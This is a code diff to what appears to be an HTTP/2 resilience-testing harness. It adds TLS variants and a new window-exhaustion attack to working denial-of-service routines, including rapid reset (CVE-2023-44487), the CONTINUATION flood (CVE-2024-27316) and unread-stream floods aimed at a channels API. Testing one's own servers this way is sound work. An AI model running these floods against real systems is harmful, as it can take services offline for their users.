@@ -3,6 +3,7 @@
 import asyncio
 import collections
 import shutil
+import socket as sockets
 
 from peers import Through, attack, close, connect, many, request, send, token
 
@@ -56,7 +57,7 @@ class Peer:
 
     @classmethod
     async def open(cls, target, settings=b""):
-        peer = await connect(target)
+        peer = await connect(target, alpn="h2")
         if peer is None:
             return None
         self = cls(target, *peer)
@@ -121,7 +122,7 @@ async def pour(target, make, at_once=8, settings=b"", first=b""):
     await many(at_once, one)
 
 
-@attack("HTTP/2 rapid reset (CVE-2023-44487)")
+@attack("HTTP/2 rapid reset (CVE-2023-44487)", also=["tls"])
 async def rapid_reset(target):
     head = get("/v1/poll?channel=a&wait=25", ("authorization", f"Bearer {token()}"))
 
@@ -136,7 +137,7 @@ async def rapid_reset(target):
     await pour(target, make)
 
 
-@attack("HTTP/2 CONTINUATION flood (CVE-2024-27316)")
+@attack("HTTP/2 CONTINUATION flood (CVE-2024-27316)", also=["tls"])
 async def continuation(target):
     def make(peer):
         if peer.stream < 0:
@@ -181,12 +182,17 @@ async def hpack(target):
     await pour(target, make)
 
 
-@attack("HTTP/2 pages of history that nobody reads: 100 connections of 128 streams, a window of 0")
-async def unread(target):
+async def large_pages(target):
+    """A channel whose pages are as large as they may be."""
     body = b'{"payload":"' + b"x" * 60_000 + b'"}'
     head = [f"Authorization: Bearer {token()}", "Content-Type: application/json"]
     for _ in range(10):
         await send(target, request(target, "POST", "/v1/channels/large/messages", head, body), patience=0.05)
+
+
+@attack("HTTP/2 pages of history that nobody reads: 100 connections of 128 streams, a window of 0")
+async def unread(target):
+    await large_pages(target)
 
     async def one(_):
         peer = await Peer.open(target, b"\0\4\0\0\0\0")
@@ -200,6 +206,29 @@ async def unread(target):
             raise Through("data beyond the window")
 
     await many(100, one)
+
+
+@attack("HTTP/2 pages of history that nobody reads: 20 connections of 128 streams, windows of 2 GB", also=["tls"])
+async def unread_wide(target):
+    await large_pages(target)
+    most = (1 << 31) - 1
+    begin = PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + most.to_bytes(4))
+    begin += frame(WINDOW, 0, 0, (most - 65_535).to_bytes(4))
+
+    async def one(_):
+        peer = await connect(target, alpn="h2", buffer=1 << 10)
+        if peer is None:
+            return
+        peer[1].transport.pause_reading()
+        peer[1].get_extra_info("socket").setsockopt(sockets.SOL_SOCKET, sockets.SO_RCVBUF, 4096)
+        head = get("/v1/channels/large/messages?limit=5", ("authorization", f"Bearer {token()}"))
+        asked = (frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, head) for n in range(128))
+        peer[1].write(begin + b"".join(asked))
+        await asyncio.sleep(max(target.left(), 0.05))
+        target.count("not read from to the end")
+        close(peer[1])
+
+    await many(20, one)
 
 
 @attack("HTTP/2 event streams: 128 on each of 40 connections of one user")
